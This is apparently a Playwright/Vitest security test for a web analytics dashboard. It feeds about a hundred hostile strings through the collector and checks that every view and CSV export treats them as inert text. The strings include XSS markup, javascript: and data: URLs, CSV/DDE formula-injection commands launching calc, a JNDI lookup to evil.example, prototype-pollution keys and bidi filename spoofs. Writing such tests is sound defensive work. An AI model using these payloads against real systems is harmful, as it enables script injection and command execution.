// What strangers write, all the way: a hundred strings that would like to be more than text, through the collector into every view and
// every file. None runs, none becomes an element, no link leads elsewhere than to the web, and no spreadsheet computes a cell.
// server/hostile-input.test.ts has what the server makes of them, torture/frames.mjs what readers of its streams do.
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { ADMIN, buildTestApp, FIREFOX } from '../server/testing/build-test-app.ts';
import { aEvent, aView, newPage } from '../server/testing/factories.ts';
import { userAgent, withBrowser } from './browser.ts';

const browser = withBrowser();
const BOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
const DAY_MS = 86_400_000;

const MARKUP = [
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script>',
  ],
  ...[
    '<iframe src=javascript:alert(1)>',
    '<iframe srcdoc="<script>parent.alert(1)</script>">',
    '<body onload=alert(1)>',
  ],
  ...[
    '<a href="javascript:alert(1)">x</a>',
    '<math><mi xlink:href="javascript:alert(1)">',
    '<base href="//evil.example/">',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<link rel=stylesheet href=//evil.example>',
    '<style>*{display:none}',
  ],
  ...[
    '<object data=javascript:alert(1)>',
    '<embed src=javascript:alert(1)>',
    '<form action=javascript:alert(1)><input type=submit>',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<!--><script>alert(1)//',
  ],
  ...[
    '<template><script>alert(1)</script>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '</title><script>alert(1)//',
  ],
  ...[
    '</script><script>alert(1)</script>',
    '</textarea><img src=x onerror=alert(1)>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
  ],
];
const ATTRIBUTES = [
  ...[
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '` onclick=alert(1) `',
    '" style="position:fixed;inset:0" x="',
  ],
  ...[
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;img src=x onerror=alert(1)&#62;',
  ],
];
const ADDRESSES = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'javascript://example.com/%0aalert(1)',
    'java%0ascript:alert(1)',
  ],
  ...[
    'data:text/html,<script>alert(1)</script>',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'vbscript:msgbox(1)',
    'blob:https://example.com/1',
  ],
  ...[
    'file:///etc/passwd',
    '//evil.example/',
    '\\\\evil.example\\x',
    'https://evil.example@example.com/',
    'http://[::1',
    'about:blank',
    'ftp://evil.example/',
  ],
  ...[
    'javascript&colon;alert(1)',
    'https:javascript:alert(1)',
    'view-source:https://example.com',
    'intent://evil#Intent;end',
  ],
];
const FORMULAS = [
  ...[
    '=1+1',
    '=HYPERLINK("https://evil.example","click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '-2+3+cmd|x',
    '@SUM(1,1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
  ],
  ...[
    '=IMPORTXML("https://evil.example","//a")',
    '"=1+1',
    '"",=1+1',
    'a",=1+1,"b',
    '=DDE("cmd";"/C calc";"x")',
    ';=1+1',
    '%09=1+1',
  ],
];
const TEMPLATES = [
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    '$\u007balert(1)}',
    '<%= alert(1) %>',
    '#{alert(1)}',
    '{n, plural, one {x} other {y}}',
    '{host}',
  ],
  ...[
    '<b>{count}</b>',
    '{{7*7}}',
    '[[alert(1)]]',
    '%s%n%x',
    '$&$1$`',
    '$\u007bjndi:ldap://evil.example/a}',
    '{"__proto__":{"x":1}}',
    '__proto__',
    'constructor',
    'toString',
  ],
];
const LETTERS = [
  ...[
    'gnp.exe\u202egpj.',
    '\u2066isolated\u2069',
    '\u202atext\u202b',
    '\u200f\u200e',
    '\u200b\u200c\u200d',
    '\ufeff',
    '\u061c',
    'שלום <b>עולם</b>',
    'العربية',
  ],
  ...[
    'Z\u0351\u036b\u0343\u036a'.repeat(20),
    'W'.repeat(120),
    'ﷺ'.repeat(30),
    '🧑‍🚀'.repeat(15),
    'a b '.repeat(30),
    '\u00a0',
    '\u3164',
    'null',
    'undefined',
    'NaN',
  ],
];
const STRINGS = [...MARKUP, ...ATTRIBUTES, ...ADDRESSES, ...FORMULAS, ...TEMPLATES, ...LETTERS];

/** A page that tells of everything that a string may have done. */
async function openPage(address: string) {
  const context = await browser().newContext({ userAgent, viewport: { width: 1280, height: 900 } });
  const done: string[] = [];
  await context.exposeBinding('tell', (_, what: string) => done.push(what));
  await context.addInitScript(() => {
    const { tell } = globalThis as unknown as { tell(what: string): void };
    for (const name of ['alert', 'confirm', 'prompt', 'open'] as const) {
      Object.assign(globalThis, { [name]: () => tell(`${name}() ran`) });
    }
    document.addEventListener('securitypolicyviolation', (event) => tell(`policy: ${event.violatedDirective}`));
  });
  await context.request.post(`${address}/api/session`, { data: ADMIN });
  const page = await context.newPage();
  page.on('pageerror', (error) => done.push(`error: ${error.message}`));
  page.on('request', (request) => {
    if (!request.url().startsWith(address) && !request.url().startsWith('blob:'))
      done.push(`asked for ${request.url()}`);
  });
  return { context, page, done };
}

/** Links that lead elsewhere than to the web, and what no component has made. */
const misplaced = (page: Page) =>
  page.evaluate(() => {
    const found: string[] = [];
    const isWeb = (value: string) =>
      URL.canParse(value, document.baseURI) && /^https?:$/.test(new URL(value, document.baseURI).protocol);
    for (const element of document.querySelectorAll('*')) {
      for (const name of ['href', 'xlink:href', 'src', 'action', 'formaction']) {
        const value = element.getAttribute(name);
        if (value !== null && !isWeb(value)) found.push(`${element.tagName} ${name}=${value}`);
      }
      if (element.getAttributeNames().some((name) => name.startsWith('on')))
        found.push(element.outerHTML.slice(0, 120));
      if (element.matches('iframe, object, embed, base, math, body style, body script, meta[http-equiv]'))
        found.push(element.outerHTML.slice(0, 120));
    }
    if (document.documentElement.scrollWidth > document.documentElement.clientWidth) found.push('wider than the page');
    return found;
  });

/** The cells of a file by RFC 4180. */
const cellsOf = (csv: string) =>
  [...csv.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n)/gy)].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  );

async function start() {
  const server = await buildTestApp();
  const send = async (text: string, reader: number) => {
    const p = newPage();
    const part = encodeURIComponent(text);
    const campaign = ['campaign', 'source', 'medium', 'content', 'term'].map((key) => `utm_${key}=${part}`).join('&');
    const u = `https://example.com/${part}?${campaign}`;
    // Every second one's referrer is the string itself, the others' have it as their path.
    const r = reader % 2 ? text : `https://from.example/${part}`;
    const headers = { 'user-agent': `${FIREFOX} ${reader}` };
    const properties = /^(__proto__|constructor)$/.test(text) ? { plain: text } : { [text]: text };
    const replies = [
      await server.hit(aView({ p, u, r, t: text }), headers),
      await server.hit(aEvent({ p, u, q: 1, n: text.slice(0, 120), d: properties }), headers),
      await server.hit(aView({ u, r, t: text }), { 'user-agent': BOT }),
    ];
    expect(
      replies.map(({ status }) => status),
      text,
    ).toEqual([202, 202, 202]);
    await server.hit(aView({ s: `${reader}.example`, u: `https://${reader}.example/${part}`, t: text }));
  };
  for (let i = 0; i < STRINGS.length; i += 10)
    await Promise.all(STRINGS.slice(i, i + 10).map((text, k) => send(text, i + k)));
  return server;
}

describe('a hundred hostile strings', () => {
  test('are text in every view and every file', async () => {
    expect(new Set(STRINGS).size).toBeGreaterThanOrEqual(100);
    const { address } = await start();
    const { context, page, done } = await openPage(address);
    const found: { [view: string]: string[] } = {};
    const judge = async (view: string) => {
      for (const width of [390, 1280]) {
        await page.setViewportSize({ width, height: 900 });
        const lines = [...(await misplaced(page)), ...done.splice(0)];
        if (lines.length > 0) found[`${view}, ${width} px`] = lines;
      }
    };
    const isTold = async () => {
      await page.locator('[data-live-panel="fresh"]').waitFor();
      await page.locator('[data-report="report-pages"] tbody tr').first().waitFor();
      await page.waitForFunction(() => !document.querySelector('[aria-busy="true"]'));
    };

    await page.goto(`${address}/sites/example.com`);
    await isTold();
    // They are there, and what turns the direction of a text is told instead of done.
    expect(await page.locator('[data-feed]').innerText()).toContain('gnp.exe%E2%80%AEgpj.');
    await judge('live and report');
    for (const list of await page.locator('[data-whole]').all()) {
      await list.click();
      await page.locator('[data-whole][aria-expanded="true"]').first().waitFor();
      await judge(`whole live list of ${await list.getAttribute('data-whole')}`);
    }
    await page.getByText('not counted since').click();
    await page.getByText('The latest, newest first').waitFor();
    await judge('what was not counted');
    await page.locator('[data-feed] li[data-hit] button').first().click();
    await page.getByRole('dialog').getByText('This visit').waitFor();
    await judge('trail');

    for (const query of [
      'pages=entry_page&sources=referrer&campaigns=utm_campaign',
      'pages=exit_page&sources=source&campaigns=utm_content',
    ]) {
      await page.goto(`${address}/sites/example.com?${query}`);
      await isTold();
      for (const panel of ['report-pages', 'report-sources', 'report-campaigns', 'report-events']) {
        await page.locator(`[data-report="${panel}"] [aria-haspopup="dialog"]`).click();
        await page.getByRole('dialog').locator('tbody tr').nth(40).waitFor();
        await judge(`whole ${panel} of ${query}`);
        await page.keyboard.press('Escape');
        await page.getByRole('dialog').waitFor({ state: 'detached' });
      }
    }
    for (const text of [MARKUP[1]!, ADDRESSES[0]!, TEMPLATES[0]!]) {
      const part = encodeURIComponent(text);
      await page.goto(
        `${address}/sites/example.com?page=/${part}&source=${part}&event=${part}&prop:${part}=${part}&trail=${part}`,
      );
      await page.locator('[data-live-panel="fresh"]').waitFor();
      await page.getByRole('dialog').getByRole('alert').waitFor();
      await judge(`filters of ${text}`);
    }
    await page.goto(`${address}/live/example.com/screen`);
    await page.locator('[data-screen="fresh"]').waitFor();
    await judge('big screen');
    expect(found).toEqual({});

    const today = [Date.now() - DAY_MS, Date.now() + DAY_MS].map((at) => new Date(at).toISOString().slice(0, 10));
    const csv = async (path: string, data: object) => {
      const reply = await context.request.post(`${address}/api/sites/example.com/${path}`, {
        data: { range: today, ...data },
        headers: { accept: 'text/csv', origin: address },
      });
      expect(reply.status(), JSON.stringify(data)).toBe(200);
      return cellsOf(await reply.text());
    };
    const files = [await csv('hits', { limit: 1000 })];
    for (const dimension of ['page', 'entry_page', 'referrer', 'source', 'utm_campaign', 'utm_term', 'event'])
      files.push(await csv('report', { queries: [{ metrics: ['visitors'], dimensions: [dimension], limit: 1000 }] }));
    expect(files.flat().filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    expect(files.flat()).toContain('\'=HYPERLINK("https://evil.example","click")');
  });

  test('would be noticed if they were more (control)', async () => {
    const { address } = await buildTestApp();
    const { page, done } = await openPage(address);
    await page.goto(address);
    await page.getByRole('heading').first().waitFor();
    expect(await misplaced(page)).toEqual([]);
    expect(done).toEqual([]);
    await page.evaluate(() => {
      const link = document.createElement('a');
      link.href = 'javascript:alert(1)';
      const picture = document.createElement('img');
      picture.src = 'https://evil.example/x.png';
      document.body.append(link, picture, document.createElement('iframe'));
      alert(1);
    });
    await expect.poll(() => done).toEqual(expect.arrayContaining(['alert() ran', 'policy: img-src']));
    expect(await misplaced(page)).toEqual(['A href=javascript:alert(1)', '<iframe></iframe>']);
  });
});
